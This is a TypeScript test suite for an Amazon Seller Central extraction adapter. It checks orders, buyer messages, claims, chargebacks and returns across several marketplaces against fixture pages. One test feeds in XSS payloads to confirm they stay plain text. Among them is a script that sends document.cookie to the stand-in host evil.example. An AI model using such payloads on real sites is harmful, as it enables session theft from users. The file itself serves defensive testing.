// @vitest-environment happy-dom
import { describe, expect, test } from 'vitest';
import { fixtureByName } from '../../../tests/fixtures/manifest';
import { parseFixture, renderedFixture, renderSpaOrder } from '../../../tests/fixtures/load';
import { amazonAdapter } from '.';

const eur = (amountMinor: number) => ({ amountMinor, currency: 'EUR' });
const usd = (amountMinor: number) => ({ amountMinor, currency: 'USD' });

function extract(name: string) {
  const fixture = fixtureByName(name);
  return amazonAdapter.extract(new URL(fixture.url), renderedFixture(fixture));
}

describe('Amazon extraction, read as a person reading the page would', () => {
  test('amazon.de order 302-1234567-1234567 (async render)', () => {
    const c = extract('amazon-de-order');
    expect(c.marketplace).toEqual({ code: 'DE', amazonId: 'A1PA6795UKMFR9', domain: 'Amazon.de', currency: 'EUR', timeZone: 'Europe/Berlin', language: 'de' });
    expect(c.buyer).toEqual({ name: 'Max Mustermann' });
    expect(c.shipTo).toEqual({
      name: 'Max Mustermann',
      lines: ['Max Mustermann', 'Musterstraße 12', '10115 Berlin', 'Deutschland'],
      city: 'Berlin',
      postalCode: '10115',
      country: 'DE',
      type: 'Wohnadresse',
      phone: '+49 30 1234567',
    });
    expect(c.items).toEqual([
      { title: 'Bluetooth Kopfhörer Over-Ear, Schwarz', asin: 'B0C1X2Y3Z4', sku: 'KH-BT-200-SW', quantity: 1, unitPrice: eur(5999), status: 'Nicht versandt' },
      { title: 'USB-C Ladekabel 2 m, Weiß', asin: 'B08L5NP6NG', sku: 'USBC-2M-WEISS', quantity: 2, unitPrice: eur(999) },
    ]);
    expect(c.totals).toEqual({ subtotal: eur(7997), shipping: eur(499), total: eur(8496) });
    expect(c.purchasedAt).toBe('2025-11-02T14:20:00.000Z');
    expect(c.shipBy).toBe('2025-11-04T22:59:00.000Z');
    expect(c.deliverBy).toBe('2025-11-07T23:00:00.000Z'); // end of the range, start of that day in Berlin
    expect(c.portalTimeZone).toBe('Europe/Berlin');
    expect(c.fulfilmentChannel).toBe('Verkäufer');
    expect(c.trackingNumber).toBeUndefined();
  });

  test('amazon.com order 111-2223334-4445556', () => {
    const c = extract('amazon-com-order');
    expect(c.orderId).toBe('111-2223334-4445556');
    expect(c.marketplace?.code).toBe('US');
    expect(c.shipTo?.lines).toEqual(['Emily Carter', '1600 Harbor Blvd', 'Apt 4B', 'Seattle, WA 98101-2233', 'United States']);
    expect(c.shipTo).toMatchObject({ city: 'Seattle', postalCode: '98101-2233', country: 'US', type: 'Residential' });
    expect(c.items.map((i) => [i.asin, i.sku, i.quantity, i.unitPrice?.amountMinor])).toEqual([
      ['B07XJ8C8F5', 'WB-32-BLK', 2, 2499],
      ['B09K3RT2QZ', 'LID-STRAW-01', 1, 120450],
    ]);
    expect(c.totals).toEqual({ subtotal: usd(125448), shipping: usd(1200), total: usd(126648) });
    expect(c.purchasedAt).toBe('2019-12-04T16:27:00.000Z');
    expect(c.shipBy).toBe('2019-12-10T07:59:00.000Z'); // "Dec 9, 2019" with no time: by the end of Dec 9 in Los Angeles
    expect(c.trackingNumber).toBe('1Z999AA10123456784');
    expect(c.shippingService).toBe('Standard');
  });

  test('amazon.co.jp order: yen without minor digits, JST', () => {
    const c = extract('amazon-jp-order');
    expect(c.items).toEqual([
      { title: 'ステンレスボトル 500ml', asin: 'B08JPBTL01', sku: 'BOTTLE-500-JP', quantity: 3, unitPrice: { amountMinor: 1980, currency: 'JPY' } },
    ]);
    expect(c.totals?.total).toEqual({ amountMinor: 5940, currency: 'JPY' });
    expect(c.purchasedAt).toBe('2021-05-19T14:45:00.000Z');
    expect(c.shipBy).toBe('2021-05-21T14:59:00.000Z'); // a date with no time: by the end of that day in Tokyo
    expect(c.shipTo).toMatchObject({ postalCode: '150-0001', country: 'JP' });
    expect(c.portalTimeZone).toBe('Asia/Tokyo');
  });

  test('order list, then an SPA navigation to an order rendered in place', () => {
    const fixture = fixtureByName('amazon-com-order-list');
    const doc = parseFixture(fixture);
    expect(amazonAdapter.classify(new URL(fixture.url), doc)).toBe('order-list');
    const orderUrl = new URL('https://sellercentral.amazon.com/orders-v3/order/114-2468024-6802468');
    expect(amazonAdapter.classify(orderUrl, doc)).toBe('order');
    expect(amazonAdapter.isContentReady('order', doc)).toBe(false);
    renderSpaOrder(doc, '114-2468024-6802468');
    expect(amazonAdapter.isContentReady('order', doc)).toBe(true);
    const c = amazonAdapter.extract(orderUrl, doc);
    expect(c).toMatchObject({ orderId: '114-2468024-6802468', buyer: { name: 'Daniel Ortiz' }, recognition: { status: 'full' } });
    expect(c.shipTo?.lines).toContain('PO Box 4410');
    expect(c.totals?.total).toEqual(usd(14498));
  });

  test('buyer thread on amazon.co.uk: the latest buyer message', () => {
    const c = extract('amazon-uk-message');
    expect(c.message).toEqual({
      threadId: '6f1c2a9e-3b7d-4c5e-9a10-2f4b8c6d1e07',
      subject: 'Where is my parcel?',
      body: 'Any news? I need it before Friday. Otherwise please cancel and refund.',
      receivedAt: '2025-11-02T15:20:00.000Z',
      from: 'buyer',
    });
    expect(c.marketplace?.currency).toBe('GBP');
  });

  test('contact-buyer page: order from the page and the query, marketplace from the host', () => {
    const c = extract('amazon-de-contact-buyer');
    expect(c).toMatchObject({ orderId: '302-1234567-1234567', buyer: { name: 'Max Mustermann' }, marketplace: { code: 'DE' } });
  });

  test('hostile text stays text, exactly as the buyer typed it', () => {
    const c = extract('amazon-com-hostile-message');
    expect(c.buyer?.name).toBe('<img src=x onerror=alert(1)> Mallory');
    expect(c.message?.subject).toBe("<script>alert('subject')</script> Refund now");
    expect(c.message?.body).toContain("<script>document.location='https://evil.example/?c='+document.cookie</script>");
    expect(c.shipTo?.lines[1]).toBe('1 Main St <iframe src="javascript:alert(3)"></iframe>');
    expect(c.message?.receivedAt).toBe('2025-11-04T07:58:00.000Z');
    // The fixture shows them as text: no element was created from them.
    const doc = renderedFixture(fixtureByName('amazon-com-hostile-message'));
    expect(doc.querySelector('img, iframe, section script')).toBeNull();
  });

  test('A-to-z claim on amazon.fr', () => {
    const c = extract('amazon-fr-claim');
    expect(c.claim).toEqual({
      id: 'AZ7QK2LX9M',
      amount: eur(108990),
      reason: 'Article non reçu',
      filedAt: '2025-11-02T14:20:00.000Z',
      stage: "Demande d'informations",
      status: 'Action requise',
    });
    expect(c.portalTimeZone).toBe('Europe/Paris');
  });

  test('chargeback details behind a hash route', () => {
    const c = extract('amazon-com-chargeback');
    expect(c.chargeback).toEqual({
      id: 'CB-9F3K2Q7ZL1',
      amount: usd(126648),
      reason: '13.1 Merchandise/Services Not Received',
      notifiedAt: '2025-11-05T18:00:00.000Z',
      respondBy: '2025-11-12T18:00:00.000Z',
      status: 'Seller response needed',
    });
    expect(c.buyer).toBeUndefined();
  });

  test('return request on amazon.it', () => {
    const c = extract('amazon-it-return');
    expect(c.return).toEqual({
      id: 'Dk7Tq2mRRMA',
      reason: 'Taglia troppo piccola',
      requestedAt: '2025-11-02T14:20:00.000Z',
      status: 'In attesa di autorizzazione',
      amount: eur(2490),
    });
    expect(c.items).toEqual([{ title: 'Scarpe da corsa uomo, 42', asin: 'B0RUNSH042', sku: 'RUN-M-42-BLU', quantity: 1, unitPrice: eur(2490) }]);
  });

  test('legacy refund form on amazon.es: labels only, no hooks', () => {
    const c = extract('amazon-es-refund');
    expect(c.items).toEqual([{ title: 'Funda de cojín de lino, 45x45', asin: 'B0LINO4545', sku: 'COJ-LINO-45-GRIS', quantity: 2, unitPrice: eur(2995) }]);
    expect(c.totals).toEqual({ total: eur(6780) });
    expect(c.purchasedAt).toBe('2025-11-01T23:00:00.000Z');
  });

  test('a redesigned order page is reported, with the order id from the URL', () => {
    const c = extract('amazon-uk-redesign-order');
    expect(c.recognition.status).toBe('unrecognized');
    expect(c.recognition.missing).toEqual(expect.arrayContaining(['selector [data-test-id="order-details-label"]', 'buyer.name', 'items']));
    expect(c.orderId).toBe('206-5556667-7778889');
    expect(c.items).toEqual([]);
  });

  test('missing fields on a multi-marketplace host: marketplace from marketplaceID, gaps named', () => {
    const c = extract('amazon-europe-missing-fields-order');
    expect(c.recognition).toEqual({ status: 'partial', missing: ['buyer.name', 'shipBy'] });
    expect(c.marketplace).toMatchObject({ code: 'FR', currency: 'EUR', timeZone: 'Europe/Paris' });
    expect(c.items[0]?.unitPrice).toEqual(eur(123450));
    expect(c.shipTo).toMatchObject({ city: 'Paris', postalCode: '75002', country: 'FR' });
  });

  test('the sales channel wins over the marketplaceID on sellercentral.amazon.com', () => {
    const doc = new DOMParser().parseFromString('<span data-test-id="order-summary-sales-channel-value">Amazon.ca</span>', 'text/html');
    const c = amazonAdapter.extract(new URL('https://sellercentral.amazon.com/orders-v3/order/701-1111111-2222222?marketplaceID=ATVPDKIKX0DER'), doc);
    expect(c.marketplace?.code).toBe('CA');
  });

  // The clock of a thread with two buyer messages in a row after the seller's last reply starts at the
  // older one: Amazon counts each unanswered message, so the one that has waited longest sets the deadline
  // (docs/decisions/0005-message-clock-oldest-unanswered.md). A single unanswered message is the last one.
  test('a thread with two unanswered buyer messages starts its clock at the older one', () => {
    const fixture = fixtureByName('amazon-ie-inbox-no-hooks');
    const doc = parseFixture(fixture);
    const section = doc.querySelector('article section')!;
    const follow = doc.createElement('div');
    follow.innerHTML = "<strong>Ciarán O'Sullivan</strong><time>Tue, 24 Nov 2026, 09:10 GMT</time>Any news on the refund?";
    section.append(follow);
    const c = amazonAdapter.extract(new URL(fixture.url), doc);
    expect(c.clockStart).toMatchObject({ at: '2026-11-23T14:30:00.000Z', source: 'buyer-message' });
    // Once the seller answers, nothing is unanswered until the buyer writes again.
    const reply = doc.createElement('div');
    reply.innerHTML = '<strong>You</strong><time>Tue, 24 Nov 2026, 11:00 GMT</time>The refund is on its way.';
    section.append(reply);
    const again = doc.createElement('div');
    again.innerHTML = "<strong>Ciarán O'Sullivan</strong><time>Wed, 25 Nov 2026, 08:00 GMT</time>Received, thanks. One more question.";
    section.append(again);
    expect(amazonAdapter.extract(new URL(fixture.url), doc).clockStart).toMatchObject({ at: '2026-11-25T08:00:00.000Z', source: 'buyer-message' });
  });
});
